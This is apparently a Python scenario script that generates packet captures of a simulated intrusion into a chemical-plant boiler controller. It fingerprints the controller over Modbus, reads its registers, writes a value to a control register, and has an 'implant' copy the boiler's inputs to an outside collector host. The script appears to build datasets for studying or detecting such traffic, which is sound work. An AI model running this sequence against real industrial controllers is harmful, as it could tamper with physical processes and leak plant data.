"""A controller reachable from the internet is identified, read and written; data then leaves the cell as Modbus."""

from __future__ import annotations

import asyncio

from pcaps.scenarios.rig.controller import control
from pcaps.scenarios.rig.layout import CHEM
from pcaps.scenarios.rig.operations import chem_masters
from pcaps.scenarios.rig.scenario import Scenario
from pcaps.scenarios.rig.stage import Stage


async def collect(stage: Stage) -> None:
    """Wait outside for what the implant sends."""
    task = asyncio.create_task(control(CHEM.host("collector"), stage.scale, stage.seed, lambda: None))
    await stage.until(140)
    task.cancel()


async def leak(stage: Stage) -> None:
    """Copy the boiler's inputs and write them to a server on the internet."""
    await stage.until(100)
    stage.mark()
    async with (
        stage.connect(CHEM.host("boiler").ip) as source,
        stage.connect(CHEM.host("collector").ip) as target,
    ):
        for _ in range(10):
            answer = await source.read_input_registers(0, count=8, device_id=1)
            await target.write_registers(100, list(answer.registers), device_id=1)
            await stage.wait(3)


async def attack(stage: Stage) -> None:
    """Do what internet scanners do, and then what they do not."""
    await stage.until(40)
    stage.mark()
    async with stage.connect(CHEM.host("boiler").ip) as client:
        await client.report_device_id(device_id=0)
        await client.read_device_information(read_code=1, object_id=0, device_id=0)
        await stage.until(60)
        stage.mark()
        for address in (0, 8, 100, 400):
            await client.read_holding_registers(address, count=6, device_id=1)
            await stage.wait(3)
        await stage.until(85)
        stage.mark()
        await client.write_register(1, 120, device_id=1)


SCENARIO = Scenario(
    file="exposed_controller.pcap",
    enterprise="chem",
    duration_s=150,
    time_scale=6,
    seed=19,
    masters=chem_masters(slack=2),
    acts={"internet": attack, "collector": collect, "implant": leak},
    strangers=("internet", "collector", "implant"),
)
